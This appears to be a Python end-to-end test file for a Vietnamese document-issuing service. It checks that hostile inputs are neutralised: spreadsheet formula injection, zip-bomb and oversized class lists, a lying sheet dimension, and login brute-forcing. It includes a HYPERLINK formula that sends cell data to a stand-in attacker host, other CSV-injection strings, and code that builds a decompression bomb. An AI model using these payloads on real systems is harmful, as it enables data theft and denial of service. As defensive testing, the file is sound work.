"""Inputs as a hostile or careless user sends them, through the real service on the embedded default and on
PostgreSQL + Redis: formulas in document data stay text in the exported register; a class list that unpacks too
big (413) or holds too many rows (422) is refused at once with the reason (on the embedded default only: nothing is
stored or queued); a sheet whose ``<dimension>`` lies still gives one letter per row; a class list saved by
LibreOffice is read; login is throttled (429, Retry-After)."""

from __future__ import annotations

import io
import json
import re
import subprocess
import time
import uuid
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest

from service.config import PROJECT_ROOT
from service.domain.audit import first_break
from service.unit_of_work import Database
from tests.backends import EMBEDDED, STORAGE_BACKENDS, ServiceProcesses, on, running_service, wait_job
from tests.e2e.test_batches import BATCH, _post, class_list

pytestmark = pytest.mark.slow
EXAMPLE = json.loads((PROJECT_ROOT / "templates_docx/giay-trieu-tap/example.json").read_text(encoding="utf-8"))
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LOGIN_LIMITS = {
    "VANBAN_LOGIN_MAX_FAILURES": "3",
    "VANBAN_LOGIN_ADDRESS_MAX_FAILURES": "6",
    "VANBAN_LOGIN_LOCKOUT_SECONDS": "3",
}


@pytest.fixture(scope="module", params=STORAGE_BACKENDS)
def service(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServiceProcesses]:
    """The service with small login limits (its own, so lockouts here touch no other test), default list limits."""
    data_dir = tmp_path_factory.mktemp("inputs-" + request.param.replace("+", "-"))
    with running_service(request.param, data_dir, LOGIN_LIMITS) as svc:
        yield svc


def test_formulas_in_document_data_stay_text_in_the_register(service: ServiceProcesses) -> None:
    hostile = [
        ('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', ["+1+2; Ban Giám hiệu", "Như trên"]),
        ("-2+3 Trần Văn Bình", ["@SUM(A1:A2)"]),
    ]
    with service.client() as c:
        notations = []
        for signer, recipients in hostile:
            data = {**EXAMPLE, "signer": {**EXAMPLE["signer"], "name": signer}, "recipients": recipients}
            accepted = c.post("/api/v1/documents", json={"template": "giay-trieu-tap", "data": data})
            assert accepted.status_code == 202, accepted.text
            job = wait_job(c, accepted.json()["job_id"], timeout=300)
            assert job["status"] == "succeeded", job
            notations.append(c.get(f"/api/v1/documents/{accepted.json()['id']}").json()["notation"])
        xlsx = c.get("/api/v1/registers/TCT/entries.xlsx")
        assert xlsx.status_code == 200, xlsx.text
    sheet = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml"))
    cells = list(sheet.iter(f"{MAIN}c"))
    assert [c.get("r") for c in cells if c.find(f"{MAIN}f") is not None] == []  # not one formula
    rows = {}
    for row in sheet.iter(f"{MAIN}row"):
        rows[row.get("r")] = ["".join(t.text or "" for t in cell.iter(f"{MAIN}t")) for cell in row.iter(f"{MAIN}c")]
    lines = {r[0]: r for r in rows.values() if r}
    for notation, (signer, recipients) in zip(notations, hostile, strict=True):
        assert lines[notation][3] == signer  # verbatim, as text
        assert lines[notation][4] == "; ".join(recipients)


def _with_sheet(data: bytes, change: Callable[[str], str]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = change(content.decode()).encode()
            dst.writestr(info.filename, content)
    return out.getvalue()


@on(EMBEDDED)  # refused before anything is stored or queued
def test_class_lists_too_big_or_too_long_are_refused_before_parsing(service: ServiceProcesses) -> None:
    header, _ = class_list(0)
    row = (
        '<row r="{n}"><c r="B{n}" t="inlineStr"><is><t>Nguyễn Văn An</t></is></c>'
        '<c r="C{n}" t="inlineStr"><is><t>01/01/1990</t></is></c></row>'
    )
    body = "".join(row.format(n=n) for n in range(2, 300_002))  # 300 000 rows, ~40 MB unpacked
    bomb = _with_sheet(header, lambda xml: xml.replace("</sheetData>", body + "</sheetData>"))
    assert len(bomb) < 3_000_000  # packed: small enough for any upload limit
    with service.client() as c:
        refused = _post(c, "giay-trieu-tap", bomb, "skip")
        assert refused.status_code == 413, refused.text
        assert refused.json()["code"] == "too_large" and "MB" in refused.json()["message_vi"]

        long_list, _ = class_list(10_001)  # the default limit is 10 000 rows; this one is ~1 MB unpacked
        refused = _post(c, "giay-trieu-tap", long_list, "skip")
        assert refused.status_code == 422, refused.text
        (error,) = refused.json()["errors"]
        assert error["path"] == "file" and "10000" in error["message"] and "10000" in error["message_vi"]
        assert c.get("/healthz").status_code == 200


@on(EMBEDDED)  # refused before anything is stored or queued
def test_a_gigantic_csv_cell_or_a_zip_of_empty_parts_is_a_422_not_a_500(service: ServiceProcesses) -> None:
    """A CSV cell past the reader's 131 072 characters was a plain-text 500 with a reset connection; a workbook
    padded with 80 000 empty zip members (nothing to unpack) had its whole directory parsed by the API."""
    header, _ = class_list(0)
    padded = io.BytesIO()
    with zipfile.ZipFile(padded, "w", zipfile.ZIP_STORED) as dst, zipfile.ZipFile(io.BytesIO(header)) as src:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        for i in range(80_000):
            dst.writestr(f"x/{i}", b"")
    assert len(padded.getvalue()) < 10 * 1_048_576  # under the unpacked bound: the directory is what is refused
    with service.client() as c:
        for name, content in (
            ("lop.csv", "Họ và tên,Ngày sinh\n".encode() + b"a" * 200_000 + b",01/01/1990\n"),
            ("lop.csv", b"x" * 3_000_000),
            ("lop.xlsx", padded.getvalue()),
        ):
            r = c.post(
                "/api/v1/batches",
                data={"template": "giay-trieu-tap", "data": json.dumps(BATCH), "on_error": "skip"},
                files={"file": (name, content)},
                timeout=120,
            )
            assert r.status_code == 422, (name, len(content), r.status_code, r.text[:300])
            (error,) = r.json()["errors"]
            assert error["path"] == "file" and error["message_vi"], error
        assert c.get("/healthz").status_code == 200


def test_every_row_is_a_letter_whatever_the_dimension_says(service: ServiceProcesses) -> None:
    good, _ = class_list(5)
    lying = _with_sheet(good, lambda xml: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:G2"/>', xml))
    assert b"A1:G2" in zipfile.ZipFile(io.BytesIO(lying)).read("xl/worksheets/sheet1.xml")
    with service.client() as c:
        accepted = _post(c, "giay-trieu-tap", lying, "skip")
        assert accepted.status_code == 202, accepted.text
        body = accepted.json()
        assert body["documents"] == 5 and body["report"]["problems"] == [], body
        assert wait_job(c, body["job_id"], timeout=600)["status"] == "succeeded"
        batch = c.get(f"/api/v1/batches/{body['id']}").json()
        assert [d["status"] for d in batch["documents"]] == ["issued"] * 5


def test_a_class_list_saved_by_libreoffice(service: ServiceProcesses, tmp_path: Path) -> None:
    names = ["Nguyễn Thị Hồng Nhung", "Trần Văn Bình", "Lê Thị Út"]
    lines = ["STT,Họ và tên,Ngày sinh,Giới tính,Chức vụ,Đơn vị công tác"]
    lines += [f"{i},{n},0{i}/03/1988,Nữ,Chuyên viên,Xã Thanh Ba" for i, n in enumerate(names, start=1)]
    (tmp_path / "lop.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--infilter=CSV:44,34,76,1",  # comma, double quote, UTF-8, from line 1
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "lop.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    xlsx = (tmp_path / "lop.xlsx").read_bytes()
    assert b"xl/worksheets/sheet1.xml" in xlsx
    with service.client() as c:
        accepted = _post(c, "giay-trieu-tap", xlsx, "reject")
        assert accepted.status_code == 202, accepted.text
        assert accepted.json()["documents"] == 3
        job = wait_job(c, accepted.json()["job_id"], timeout=600)
        assert job["status"] == "succeeded", job
        batch = c.get(f"/api/v1/batches/{accepted.json()['id']}").json()
        assert [d["name"] for d in batch["documents"]] == names


def _login(service: ServiceProcesses, username: str, password: str) -> httpx.Response:
    return httpx.post(f"{service.url}/api/v1/auth/token", data={"username": username, "password": password})


def test_login_is_throttled_per_account_and_per_address(service: ServiceProcesses) -> None:
    suffix = uuid.uuid4().hex[:6]
    people = [f"vanthu_{suffix}", f"hieutruong_{suffix}"]
    with service.client() as admin:
        for name in people:
            body = {"username": name, "full_name": name, "organisation": "TCT", "roles": ["clerk"]}
            assert admin.post("/api/v1/users", json={**body, "password": f"mk-{name}"}).status_code == 201
    first, second = people
    assert [_login(service, first, "sai").status_code for _ in range(3)] == [401, 401, 401]
    locked = _login(service, first, f"mk-{first}")  # the right password, during the lockout
    assert locked.status_code == 429, locked.text
    assert 1 <= int(locked.headers["Retry-After"]) <= 3
    assert locked.json()["code"] == "too_many_attempts" and locked.json()["message_vi"]
    assert _login(service, second, f"mk-{second}").status_code == 200  # same address, another account
    # 3 more wrong passwords from this address (6 in all) spend its budget: every account is refused from here
    assert [_login(service, f"khong-co-{i}", "sai").status_code for i in range(3)] == [401, 401, 401]
    refused = _login(service, second, f"mk-{second}")
    assert refused.status_code == 429 and "Retry-After" in refused.headers
    time.sleep(int(refused.headers["Retry-After"]) + 0.5)  # wait out the lockout it announced
    assert _login(service, first, f"mk-{first}").status_code == 200
    # both lockouts are in the service's hash-chained audit log (read from its database)
    db = Database(service.env.get("VANBAN_DATABASE_URL") or f"sqlite:///{service.data_dir / 'vanban.sqlite'}")
    try:
        with db.uow() as tx:
            lockouts = [e for e in tx.repo.audit_chain()[0] if e.action == "login_lockout"]
            assert {(e.detail["scope"], e.detail["key"]) for e in lockouts} == {
                ("account", first),
                ("address", "127.0.0.1"),
            }
            assert first_break(*tx.repo.audit_chain()) is None
    finally:
        db.dispose()
